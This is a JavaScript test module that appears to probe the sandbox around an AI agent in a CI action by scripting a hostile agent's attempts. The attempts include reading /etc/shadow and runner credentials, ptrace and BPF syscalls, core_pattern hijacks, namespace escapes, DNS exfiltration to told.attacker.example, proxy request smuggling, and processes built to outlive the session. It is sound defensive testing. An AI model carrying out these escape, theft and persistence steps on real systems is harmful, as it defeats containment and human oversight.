// What a hostile agent tries. Runs inside the stand-in CLI, with only Node and what is on the machine. Each attempt
// is for one point of section 7 of the contract. It returns what it obtained, or nothing when it failed.
import { execFileSync, spawn, spawnSync } from "node:child_process";
import { createSocket } from "node:dgram";
import { lookup, Resolver } from "node:dns/promises";
import * as fs from "node:fs";
import { createServer } from "node:http";
import { connect } from "node:net";
import { dirname, join } from "node:path";

const PERL = "/usr/bin/perl";

/** Returns the output of a shell command that succeeded. */
function shell(command) {
  const done = spawnSync("/bin/sh", ["-c", command], { encoding: "utf8", timeout: 5_000 });
  return done.status === 0 ? done.stdout.trim() || "(done)" : undefined;
}

/** Runs Perl that prints what it obtained; its `call` makes a system call that must succeed. */
function perl(script) {
  const prologue = `sub call { my $r = syscall(shift, @_); exit 1 if $r == -1; return $r } my $arm = \`uname -m\` =~ /aarch64/;`;
  const done = spawnSync(PERL, ["-e", prologue + script], { encoding: "utf8", timeout: 5_000 });
  return done.status === 0 && done.stdout !== "" ? done.stdout : undefined;
}

/** Searches a keyring by name (KEYCTL_SEARCH) and reads what it finds (KEYCTL_READ). */
function findKey(description, ring) {
  return perl(
    `my ($t, $d, $b, $key) = ("user", "${description}", "\\0" x 99, $arm ? 219 : 250); my $k = call($key, 10, ${ring}, $t, $d, 0); my $n = call($key, 11, $k, $b, 99); print substr($b, 0, $n)`,
  );
}

function read(path) {
  const text = fs.readFileSync(path, "latin1");
  return text.includes("SECRET-0123") ? text.slice(0, 200) : undefined;
}

/** Returns any secret below a folder. */
function search(folder, depth = 4) {
  for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
    const path = join(folder, entry.name);
    try {
      if (["/proc", "/sys", "/dev"].includes(fs.realpathSync(path))) {
        continue;
      }
      const found =
        entry.isDirectory() && depth > 0 ? search(path, depth - 1) : entry.isFile() ? read(path) : undefined;
      if (found !== undefined) {
        return `${path}: ${found}`;
      }
    } catch {
      // Try the next one.
    }
  }
  return undefined;
}

function write(path) {
  fs.writeFileSync(path, "hostile");
  return `wrote ${path}`;
}

/** Gives what lies in a folder the mode that it has, and returns where that was allowed. */
function chmodded(folder, isMeant) {
  const changed = fs
    .readdirSync(folder)
    .filter(isMeant)
    .map((name) => join(folder, name))
    .filter((path) => {
      const stats = fs.lstatSync(path, { throwIfNoEntry: false });
      if (stats === undefined || stats.isSymbolicLink()) {
        return false;
      }
      try {
        fs.chmodSync(path, stats.mode & 0o7777);
        return true;
      } catch {
        return false;
      }
    });
  return changed.join(" ") || undefined;
}

function reachSocket(address) {
  return new Promise((resolve) => {
    const socket = connect(address);
    const end = (what) => {
      socket.destroy();
      resolve(what);
    };
    socket.setTimeout(1_000, () => end(undefined));
    socket.once("error", () => end(undefined));
    socket.once("connect", () => end(`connected to ${JSON.stringify(address)}`));
  });
}

const capabilities = (name) => BigInt(`0x${/^(\w+):\s*([0-9a-f]+)$/m.exec(status(name))?.[2] ?? "0"}`);
const status = (name) =>
  fs
    .readFileSync("/proc/self/status", "utf8")
    .split("\n")
    .find((line) => line.startsWith(`${name}:`)) ?? "";
/** chown, dac_override, fowner, fsetid: what root keeps in order to write in another user's workspace. */
const ROOT_KEEPS = 0b11011n;
const mayHave = () => (process.getuid() === 0 ? ROOT_KEEPS : 0n);

/** @param facts what the test has planted: paths, process and key ids, addresses */
export function attempts(facts) {
  const processes = () => fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name));
  const point = (number, name, attempt) => ({ point: number, name, attempt });
  return [
    point(1, "see a process of the machine by its command", () =>
      processes().find((pid) =>
        fs.readFileSync(`/proc/${pid}/cmdline`, "latin1").includes(facts.sentinelWord),
      ),
    ),
    point(1, "see it in ps", () => shell(`ps -e -o args | grep -v grep | grep -F ${facts.sentinelWord}`)),
    point(1, "signal it by its number", () => process.kill(facts.sentinelPid, 0) && "it took the signal"),
    point(
      1,
      "signal the one that started it",
      () => process.kill(process.ppid || 999_999, 0) && "it took the signal",
    ),
    point(1, "trace process 1", () => perl(`call($arm ? 117 : 101, 16, 1, 0, 0); print "attached"`)),
    point(1, "trace a process of the machine", () =>
      perl(`call($arm ? 117 : 101, 16, ${facts.sentinelPid}, 0, 0); print "attached"`),
    ),
    point(1, "change limits of a process of the machine", () =>
      perl(
        `my $l = pack("QQ", 0, 0); call($arm ? 261 : 302, ${facts.sentinelPid}, 7, $l, 0); print "changed"`,
      ),
    ),
    point(1, "go into the namespaces of process 1", () => shell("nsenter --target 1 --all true")),
    point(1, "see the machine through process 1", () => fs.readdirSync("/proc/1/root").join(" ")),
    point(1, "open a file of process 1", () =>
      fs
        .readdirSync("/proc/1/fd")
        .map((name) => fs.readlinkSync(`/proc/1/fd/${name}`))
        .join(" "),
    ),

    point(2, "be root by sudo", () => (process.getuid() === 0 ? undefined : shell("sudo -n id -u"))),
    point(2, "be root by a set-uid program", () => shell(`${facts.setUidProgram} /etc/shadow | grep root:`)),
    point(2, "have effective capabilities", () => {
      const more = capabilities("CapEff") & ~mayHave();
      return more === 0n ? undefined : more.toString(16);
    }),
    point(2, "have capabilities to come by", () => {
      const more =
        (capabilities("CapBnd") | capabilities("CapPrm") | capabilities("CapInh") | capabilities("CapAmb")) &
        ~mayHave();
      return more === 0n ? undefined : more.toString(16);
    }),
    point(2, "gain privileges by starting a program", () =>
      status("NoNewPrivs").endsWith("1") ? undefined : status("NoNewPrivs"),
    ),
    point(2, "make a user namespace", () => shell("unshare --user true")),
    point(2, "make a mount namespace", () => shell("unshare --mount true")),
    point(2, "mount something", () => shell("mount -t tmpfs tmpfs /tmp")),
    point(2, "unmount something", () => shell("umount /usr || umount /etc || umount /proc/sys")),
    point(2, "make what is read-only writable", () => shell("mount -o remount,rw,bind /usr")),
    point(2, "change its root", () => shell("chroot /usr/.. /bin/true")),
    point(1, "read the memory of process 1", () =>
      perl(
        `my $b = "\\0" x 8; my $to = pack("PQ", $b, 8); my $from = pack("QQ", 0x400000, 8); call($arm ? 270 : 310, 1, $to, 1, $from, 1, 0); print "read"`,
      ),
    ),
    point(1, "take a descriptor of process 1", () =>
      perl(`my $p = call(434, 1, 0); for (0 .. 20) { print "took" if syscall(438, $p, $_, 0) >= 0 }`),
    ),
    point(1, "compare descriptors with process 1", () =>
      perl(`call($arm ? 272 : 312, $$, 1, 0, 0, 9); print "compared"`),
    ),
    point(2, "join a namespace of process 1", () =>
      perl(
        `open my $n, "<", "/proc/1/ns/mnt" or exit 1; call($arm ? 268 : 308, fileno $n, 0); print "joined"`,
      ),
    ),
    point(2, "watch the whole machine's performance", () =>
      perl(
        `my $a = pack("LLQ", 1, 112, 0) . "\\0" x 96; call($arm ? 241 : 298, $a, -1, 0, -1, 0); print "watching"`,
      ),
    ),
    point(2, "load a program of the kernel's own (BPF, a tracepoint)", () =>
      perl(
        `my $code = pack("CCsl", 0xb7, 0, 0, 0) . pack("CCsl", 0x95, 0, 0, 0); my $gpl = "GPL\\0"; my $a = pack("LLPP", 5, 2, $code, $gpl) . "\\0" x 48; call($arm ? 280 : 321, 5, $a, length $a); print "loaded"`,
      ),
    ),
    point(2, "watch a whole file system", () =>
      perl(`my $f = call($arm ? 262 : 300, 4, 0); print "watching"`),
    ),
    point(2, "open a file by its handle", () =>
      perl(
        `my $h = pack("LL", 128, 0) . "\\0" x 128; my $m = pack("L", 0); my $p = "/etc"; call($arm ? 264 : 303, -100, $p, $h, $m, 0); open my $d, "<", "/usr/bin/env" or exit 1; call($arm ? 265 : 304, fileno $d, $h, 0); print "opened"`,
      ),
    ),
    point(2, "mount by the new calls", () =>
      perl(`my $t = "tmpfs"; call(430, $t, 0); print "opened a file system"`),
    ),
    point(2, "hear the machine's audit", () =>
      perl(
        `socket(my $s, 16, 3, 9) or exit 1; bind($s, pack("SSLL", 16, 0, 0, 1)) or exit 1; print "listening"`,
      ),
    ),
    point(2, "have a format of programs", () => {
      fs.writeFileSync("/proc/sys/fs/binfmt_misc/register", ":x:E::x::/bin/sh:");
      return "registered";
    }),
    point(2, "have every crash start a program", () => {
      fs.writeFileSync("/proc/sys/kernel/core_pattern", "|/bin/sh");
      return "written";
    }),
    point(4, "rename the workspace", () => {
      fs.renameSync(facts.workspace, `${facts.workspace}-moved`);
      fs.renameSync(`${facts.workspace}-moved`, facts.workspace);
      return "renamed";
    }),
    point(4, "give a file of the system a name in the workspace", () => {
      fs.linkSync("/etc/passwd", join(facts.workspace, "linked"));
      return "linked";
    }),
    point(4, "change the mode of a device", () =>
      chmodded("/dev", (name) => name !== "pts" && name !== "shm"),
    ),
    point(4, "change the mode of a file of the kernel's", () =>
      chmodded("/proc", (name) => !/^\d+$/.test(name)),
    ),
    point(3, "have a descriptor that nobody gave to it", () =>
      perl(
        `for (3 .. 255) { my $l = readlink "/proc/$$/fd/$_"; print "$_ $l" if defined $l && $l !~ m{^/proc/|pipe:|^/dev/null} }`,
      ),
    ),
    point(2, "make a device", () => shell(`mknod ${facts.workspace}/disk b 254 0`)),
    point(2, "open a disk", () =>
      shell(
        "for disk in /dev/vda /dev/sda /dev/nvme0n1 /dev/mem /dev/kmsg; do head -c 1 $disk >/dev/null && exit 0; done; exit 1",
      ),
    ),
    point(2, "load a module, or another kernel", () =>
      perl(`my $f = "x"; call($arm ? 105 : 175, $f, 1, $f); print "loaded"`),
    ),
    point(2, "set the clock", () => shell("date --set='1 hour'")),
    point(2, "set the name of the machine", () => shell("hostname hostile && hostname")),
    point(2, "change a setting of the kernel", () => {
      // A setting that each namespace has for itself, with its own value: nothing on the machine changes.
      const path = "/proc/sys/kernel/msgmax";
      fs.writeFileSync(path, fs.readFileSync(path));
      return `wrote ${path}`;
    }),
    point(2, "press a key of the kernel's", () => write("/proc/sysrq-trigger")),
    ...facts.sockets.map((path) => point(2, `reach ${path}`, () => reachSocket({ path }))),
    ...facts.keys.map(({ description, ring }) =>
      point(2, `find the key ${description} in the keyring ${ring}`, () => findKey(description, ring)),
    ),
    point(2, "list keys", () => {
      const text = fs.readFileSync("/proc/keys", "utf8");
      return text === "" ? undefined : text.slice(0, 200);
    }),
    point(2, "read shared memory (System V)", () =>
      perl(
        `my $id = call($arm ? 194 : 29, ${facts.sharedMemoryKey}, 0, 0); shmread($id, my $b, 0, 9) or exit 1; print $b`,
      ),
    ),
    point(2, "read shared memory (POSIX)", () => read("/dev/shm/secret")),
    point(2, "list shared memory", () => shell(`ipcs -m | grep -F 0x`)),

    point(3, "read the environment of a process of the machine", () =>
      read(`/proc/${facts.sentinelPid}/environ`),
    ),
    point(3, "read the memory of a process of the machine", () =>
      shell(`head -c 1 /proc/${facts.sentinelPid}/mem >/dev/null; cat /proc/${facts.sentinelPid}/maps`),
    ),
    point(
      3,
      "read any environment that holds an input",
      () =>
        processes()
          .filter((pid) => {
            try {
              return fs.readFileSync(`/proc/${pid}/environ`, "latin1").includes("INPUT_");
            } catch {
              return false;
            }
          })
          .join(" ") || undefined,
    ),
    point(
      3,
      "read the environment of process 1",
      () => fs.readFileSync("/proc/1/environ", "latin1") || undefined,
    ),
    point(3, "have an input in its own environment", () =>
      Object.keys(process.env).find((name) =>
        /^INPUT_|^ACTIONS_|^GITHUB_(?:ENV|OUTPUT|EVENT_PATH|TOKEN)$/.test(name),
      ),
    ),
    point(3, "read what others keep in RUNNER_TEMP", () => search(facts.temporary)),
    point(3, "see the runner's files", () =>
      fs.readdirSync(join(facts.temporary, "_runner_file_commands")).join(" "),
    ),
    point(3, "see what the action keeps there", () =>
      fs
        .readdirSync(facts.temporary)
        .flatMap((name) => fs.readdirSync(join(facts.temporary, name)))
        .find((name) => name === "transcript.ndjson" || name === "isolation"),
    ),
    point(3, "read the event", () => fs.readFileSync(facts.event, "utf8")),
    point(3, "read the action's program", () => fs.readFileSync(facts.action, "utf8").slice(0, 80)),
    ...facts.homeSecrets.map((name) => point(3, `read ~/${name}`, () => read(join(facts.home, name)))),
    point(3, "read the runner's own credentials", () => read(facts.runnerCredentials)),
    point(3, "read the passwords of the machine", () => {
      const text = fs.readFileSync("/etc/shadow", "utf8");
      return text === "" ? undefined : text.slice(0, 80);
    }),
    ...facts.systemSecrets.map((path) => point(3, `read ${path}`, () => read(path))),
    point(3, "find a credential anywhere in the workspace", () => search(facts.workspace, 6)),
    point(3, "read what was there before the new root", () =>
      ["/.old", "/.outside", "/old_root", "/proc/self/cwd/../../../.."]
        .map((path) => {
          try {
            return search(path, 2);
          } catch {
            return undefined;
          }
        })
        .find((found) => found !== undefined),
    ),
    point(3, "find an open file that leads out", () =>
      fs
        .readdirSync("/proc/self/fd")
        .map((name) => {
          try {
            return fs.readlinkSync(`/proc/self/fd/${name}`);
          } catch {
            return "";
          }
        })
        .find(
          (target) =>
            target.startsWith("/") &&
            !/^\/(?:dev|proc|tmp|home)\b/.test(target) &&
            !target.startsWith(facts.standIn),
        ),
    ),

    ...[
      "/hostile",
      "/etc/hostile",
      "/etc/passwd",
      "/usr/bin/hostile",
      "/usr/local/bin/hostile",
      "/opt/hostile",
      "/var/lib/hostile",
      "/var/log/hostile",
      "/run/hostile",
      "/dev/hostile",
      "/sys/hostile",
      "/proc/self/oom_score_adj/../../../hostile",
      "/home/hostile",
      "/mnt/hostile",
    ].map((path) => point(4, `write ${path}`, () => write(path))),
    point(4, "write beside the CLI", () => write(join(facts.standIn, "hostile"))),
    point(4, "write to the tool cache", () => write(join(facts.toolCache, "hostile"))),
    // These folders are the agent's own. Whether the file also appears on the machine is checked afterwards.
    ...[facts.temporary, facts.home, dirname(facts.workspace), "/tmp", "/var/tmp", "/dev/shm"].map((folder) =>
      point(4, `write to ${folder}`, () => {
        write(join(folder, "hostile"));
      }),
    ),
    // Last, because other attempts target it, too.
    point(
      1,
      "end it by its number",
      () => process.kill(facts.sentinelPid, "SIGKILL") && "it took the signal",
    ),
  ];
}

/** Returns the proxy's response to a request's headers and what follows them. */
function askProxy(head, more = "") {
  return new Promise((resolve) => {
    const socket = connect({ host: "127.0.0.1", port: 3128 });
    let text = "";
    const end = () => {
      socket.destroy();
      resolve(text);
    };
    socket.setTimeout(3_000, end);
    socket.on("error", end).on("close", end);
    socket.on("data", (bytes) => (text += bytes));
    socket.write(`${head}\r\n\r\n${more}`);
  });
}

/** The attempt got through if a listener outside has answered. */
const reached = (answer) =>
  /reached/.test(answer) || / 200 /.test(answer) ? answer.slice(0, 200) : undefined;

/** @param facts `network`: addresses with listeners, and authorities that mean them */
export function networkAttempts({ network }) {
  const { addresses, authorities } = network;
  const point = (name, attempt) => ({ point: "network", name, attempt });
  const send = (type, address, port) =>
    new Promise((resolve) => {
      const socket = createSocket(type);
      // The listener outside sees whether it has arrived.
      const end = () => socket.close(() => resolve(undefined));
      socket.on("error", end);
      socket.send("hostile", port, address, end);
    });
  const looked = async (resolver) => String(await resolver);
  return [
    ...addresses.flatMap(({ address, port }) => [
      point(`TCP to ${address} ${port}`, () => reachSocket({ host: address, port })),
      point(`UDP to ${address} ${port}`, () => send(address.includes(":") ? "udp6" : "udp4", address, port)),
    ]),
    point("the system's resolver", () => looked(lookup("told.attacker.example"))),
    point("a name server that is known", () => {
      const resolver = new Resolver({ timeout: 500, tries: 1 });
      resolver.setServers(["127.0.0.1"]);
      return looked(resolver.resolve4("told.attacker.example"));
    }),
    ...["ICMP over a raw socket:3", "ICMP over a datagram:2"].map((words) => {
      const [name, type] = words.split(":");
      return point(name, () =>
        perl(
          `use Socket; socket(my $s, AF_INET, ${type}, 1) or exit 1; send($s, pack("CCnnn", 8, 0, 0xf7fe, 1, 0), 0, sockaddr_in(0, inet_aton("127.0.0.1"))) and print "sent"`,
        ),
      );
    }),
    point("a socket AF_PACKET", () => perl(`socket(my $s, 17, 2, 0) or exit 1; print "opened"`)),
    point("an abstract socket", () => reachSocket({ path: "\0hostile-machine" })),
    point("another network", () => shell("unshare --net true || nsenter --target 1 --net true")),
    point("a route of its own", () => shell("ip link add hostile type dummy || ip route add default dev lo")),
    ...authorities.flatMap((authority) => [
      point(`CONNECT ${authority}`, async () =>
        reached(await askProxy(`CONNECT ${authority} HTTP/1.1\r\nHost: allowed.example:8080`)),
      ),
      point(`GET http://${authority}/`, async () =>
        reached(
          await askProxy(
            `GET http://${authority}/ HTTP/1.1\r\nHost: allowed.example:8080\r\nConnection: close`,
          ),
        ),
      ),
    ]),
    point("a second request in one connection", async () => {
      const [, second = ""] = (
        await askProxy(
          "GET http://allowed.example:8080/ HTTP/1.1\r\nHost: allowed.example:8080",
          "GET http://127.0.0.1:8081/ HTTP/1.1\r\nHost: allowed.example:8080\r\nConnection: close\r\n\r\n",
        )
      ).split("reached");
      return / 200 /.test(second) ? second : undefined;
    }),
    point("a request behind a CONNECT that was refused", async () =>
      reached(
        await askProxy(
          "CONNECT 127.0.0.1:8081 HTTP/1.1\r\nHost: allowed.example:8080",
          "GET http://127.0.0.1:8081/ HTTP/1.1\r\nHost: 127.0.0.1:8081\r\n\r\n",
        ),
      ),
    ),
  ];
}

const tunnelTo = (port, onSocket) =>
  new Promise((resolve, reject) => {
    const socket = connect({ host: "127.0.0.1", port: 3128 });
    socket.on("error", reject);
    onSocket(socket, resolve);
    socket.write(`CONNECT allowed.example:${port} HTTP/1.1\r\nHost: x\r\n\r\n`);
  });

/** Returns the response of a server on the loopback, requested without the proxy. */
function askDirectly(port, host = "127.0.0.1") {
  return new Promise((resolve) => {
    const socket = connect({ host, port });
    let text = "";
    socket.on("error", () => resolve(text)).on("close", () => resolve(text));
    socket.on("data", (bytes) => (text += bytes));
    socket.write("GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
  });
}

/**
 * Uses allowed hosts.
 *
 * @param facts `loopbackPort` of the machine, which a rule names
 * @returns the results
 */
export async function useAllowed({ loopbackPort }) {
  const own = createServer((_request, response) => response.end("its own"));
  await new Promise((resolve) => own.listen(3000, "localhost", resolve));
  const loopback = {
    own: await (await fetch("http://localhost:3000/")).text(),
    overProxy: /reached/.test(
      await askProxy(`GET http://localhost:${loopbackPort}/ HTTP/1.1\r\nHost: x\r\nConnection: close`),
    ),
    directly: /reached/.test(await askDirectly(loopbackPort)),
    ofVersion6: /reached/.test(await askDirectly(loopbackPort, "::1")),
    likeAnyProgram: await (await fetch(`http://localhost:${loopbackPort}/`)).text(),
  };
  own.close();
  const tunnel = await askProxy(
    "CONNECT Allowed.EXAMPLE.:8080 HTTP/1.1\r\nHost: x",
    "GET / HTTP/1.1\r\nHost: x\r\n\r\n",
  );
  const plain = await askProxy("GET http://allowed.example:8080/ HTTP/1.1\r\nHost: x\r\nConnection: close");
  // All stay open until the last one is.
  const tunnels = await Promise.all(
    Array.from({ length: 200 }, () =>
      tunnelTo(8082, (socket, resolve) => {
        socket.once("data", (bytes) => resolve({ socket, isOpen: / 200 /.test(String(bytes)) }));
      }),
    ),
  );
  for (const { socket } of tunnels) {
    socket.destroy();
  }
  let bytes = 0;
  await tunnelTo(8083, (socket, resolve) => {
    socket.on("data", (chunk) => (bytes += chunk.length)).on("close", resolve);
  });
  return {
    loopback,
    tunnel: /reached/.test(tunnel),
    plain: /reached/.test(plain),
    variables: Object.fromEntries(Object.entries(process.env).filter(([name]) => /proxy/i.test(name))),
    connections: tunnels.filter(({ isOpen }) => isOpen).length,
    megabytes: Math.floor(bytes / 1e6),
  };
}

/**
 * Tries all of them and returns those that succeeded.
 *
 * @param names parts of the names to try; none: all
 */
export async function tryAll(all, names = []) {
  const succeeded = [];
  const chosen = all.filter(({ name }) => names.length === 0 || names.some((part) => name.includes(part)));
  for (const { point, name, attempt } of chosen) {
    try {
      const got = await attempt();
      if (got !== undefined && got !== false && got !== "") {
        succeeded.push(`${point}. ${name}: ${String(got).slice(0, 300)}`);
      }
    } catch {
      // It failed.
    }
  }
  return { tried: chosen.length, succeeded };
}

/** Leaves processes behind that would survive the end, each in another way; they write to `file` while they live. */
export function leaveBehind(file) {
  const loop = `trap '' HUP INT TERM QUIT PIPE; while :; do echo "$0" >>"${file}"; sleep 0.05; done`;
  for (const words of [
    ["/bin/sh", "-c", loop, "child"],
    ["setsid", "/bin/sh", "-c", loop, "session"],
    ["env", "-i", "/usr/bin/setsid", "/bin/sh", "-c", loop, "no-environment"],
    ["/bin/sh", "-c", `(setsid /bin/sh -c '${loop.replaceAll("'", "'\\''")}' double-fork &) &`, "parent"],
    ["nohup", "/bin/sh", "-c", loop, "nohup"],
    ["unshare", "--user", "--pid", "--fork", "/bin/sh", "-c", loop, "namespace"],
    ["systemd-run", "--user", "/bin/sh", "-c", loop, "systemd"],
    ["sudo", "-n", "/bin/sh", "-c", loop, "root"],
  ]) {
    const child = spawn(words[0], words.slice(1), { stdio: "ignore", detached: true });
    child.on("error", () => undefined);
    child.unref();
  }
  try {
    execFileSync("/bin/sh", ["-c", `echo "/bin/sh -c '${file}'" | at now`], { stdio: "ignore" });
  } catch {
    // There is no such service.
  }
}
